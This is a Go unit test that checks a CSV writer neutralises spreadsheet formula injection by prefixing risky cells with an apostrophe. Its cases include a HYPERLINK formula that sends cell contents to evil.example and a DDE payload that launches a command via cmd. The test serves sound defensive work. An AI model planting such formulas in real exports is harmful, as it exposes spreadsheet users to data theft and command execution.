package format

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/mutuals/mutuals/model"
	"github.com/mutuals/mutuals/ui/internal/uitest"
)

// TestCSVFormulas: a cell a spreadsheet would run as a formula (OWASP's
// CSV injection: a leading =, +, -, @, also after leading blanks and
// invisible characters, or a leading tab or carriage return) starts with
// an apostrophe, which makes it text; other cells are unchanged.
func TestCSVFormulas(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
		"-2+3":                                             "'-2+3",
		"@SUM(A1:A9)":                                      "'@SUM(A1:A9)",
		"\t=1+1":                                           "' =1+1",
		"\r=1+1":                                           "' =1+1",
		"a = b":                                            "a = b",
		"e-mail":                                           "e-mail",
		"":                                                 "",
		"2010-08":                                          "2010-08",
	}
	// A formula after leading blanks still runs: each is guarded.
	for _, lead := range []string{"\n", " ", "  \n ", "\u00a0", "\u200b", "\ufeff", "\u200b\u00a0\u2060"} {
		for _, f := range []string{"=1+1", "+1", "-1", "@SUM(A1)"} {
			cases[lead+f] = "'" + model.Printable(lead+f)
		}
		cases[lead+"a=b"] = model.Printable(lead + "a=b")
	}
	for in, want := range cases {
		var buf bytes.Buffer
		if err := (Output{w: &buf, Format: CSV}).writeCSV([][]string{{in, "x"}}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[0][0]; got != want || uitest.RunsAsFormula(got) {
			t.Errorf("cell %q = %q, want %q", in, got, want)
		}
	}
}
